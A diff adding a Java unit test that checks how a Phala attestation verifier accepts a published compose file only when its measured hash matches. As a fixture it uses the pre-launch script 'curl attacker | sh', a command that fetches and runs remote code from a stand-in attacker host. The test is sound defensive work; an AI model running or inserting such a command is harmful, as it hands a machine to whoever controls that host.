@@ -104,4 +104,22 @@ class ExpectedComposeHashesTest {
         assertThat(none.hashes()).isEmpty();
         assertThat(none.problem()).isEqualTo("Phala publishes no app compose for kv-1");
     }
+
+    /**
+     * Drift is taken from what Phala publishes only when the CVM's measured compose hash proves it: a published compose
+     * whose hash is not the measured one (Phala, or whoever answers for it, claiming another compose) is not what runs,
+     * and neither is a compose beside a pre-launch script (adopting the compose alone would not reproduce it).
+     */
+    @Test
+    void theRunningComposeIsTakenOnlyWhenTheMeasuredHashProvesIt() {
+        String theirs = "services:\n  web:\n    image: nginxdemos/hello:0.4\n";
+        Map<String, Object> drifted = published(theirs, null);
+        publishes(drifted);
+        ExpectedComposeHashes.Published published = expected.of(spec, cvm, attest).published();
+        assertThat(published.ifMeasured(AppCompose.hash(drifted))).isEqualTo(theirs);
+        assertThat(published.ifMeasured(AppCompose.hash(published(OURS, null)))).as("Phala's word against the quote's").isNull();
+        assertThat(published.ifMeasured(null)).isNull();
+        publishes(published(theirs, "curl attacker | sh"));
+        assertThat(expected.of(spec, cvm, attest).published()).as("a compose beside a pre-launch script").isNull();
+    }
 }
